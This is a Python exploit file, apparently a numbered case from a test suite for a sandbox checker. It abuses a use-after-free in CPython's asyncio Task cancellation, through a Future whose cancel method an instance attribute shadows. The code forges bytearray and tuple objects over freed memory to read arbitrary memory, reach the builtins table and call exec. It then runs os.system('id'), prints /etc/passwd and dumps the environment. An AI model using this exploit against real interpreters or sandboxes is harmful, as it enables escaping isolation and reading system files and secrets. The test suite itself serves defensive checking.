# family: wall (memory: an asyncio Task's cancel message freed through a Future whose cancel an instance attribute shadows)   goal: id   interpreter: /usr/bin/python3
# (round 83) fut.cancel = list: a Task awaiting fut, cancelled with a message of the
#   program's, has its C cancel call fut.cancel(msg) by name with the message borrowed;
#   list(msg) runs the message's __iter__, which cancels the Task again and frees it
#   (gh-126138's family, X81). The checker refuses the store (rule store, shadowed_method).
import asyncio


class Box:
    def __init__(self):
        self.t1 = None
        self.t2 = None
        self.fill = b""
        self.got = None
        self.keep = []


box = Box()


def qword(v):
    return v.to_bytes(8, "little")


def no(*args):
    return False


class Refill:
    def __iter__(self):
        return self

    def __next__(self):
        box.keep.append(bytearray(box.fill))
        raise StopIteration


class Msg:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")

    def __iter__(self):
        box.t2.cancel = no
        box.t1.cancel(())
        return Refill()


async def second(f):
    try:
        await f
    except asyncio.CancelledError as e:
        box.got = e.args[0]


async def first(t2):
    t = asyncio.current_task()
    box.t1 = t
    t.cancel(Msg())
    await t2


async def forge(header):
    box.fill = bytes(16) + header + bytes(79 - len(header))
    f = asyncio.Future()
    f.cancel = list
    t2 = asyncio.create_task(second(f))
    box.t2 = t2
    await asyncio.sleep(0)
    t1 = asyncio.create_task(first(t2))
    await asyncio.sleep(0)
    await asyncio.sleep(0)
    f.set_result(1)
    await asyncio.sleep(0)
    await asyncio.sleep(0)
    return box.got


async def main():
    mem = await forge(qword(1000) + qword(id(bytearray)) + qword(2 ** 62) + qword(2 ** 62)
                      + qword(0) + qword(0) + qword(1))
    print("forged:", type(mem), len(mem))
    where = int.from_bytes(mem[id(no) + 24:id(no) + 32], "little")
    print("builtins dict at", hex(where))
    holder = await forge(qword(1000) + qword(id(tuple)) + qword(1) + qword(where))
    table = holder[0]
    run = table.get("exec")
    run("import os; os.system('id'); print(open('/etc/passwd').read()); print(os.environ)")


asyncio.run(main())
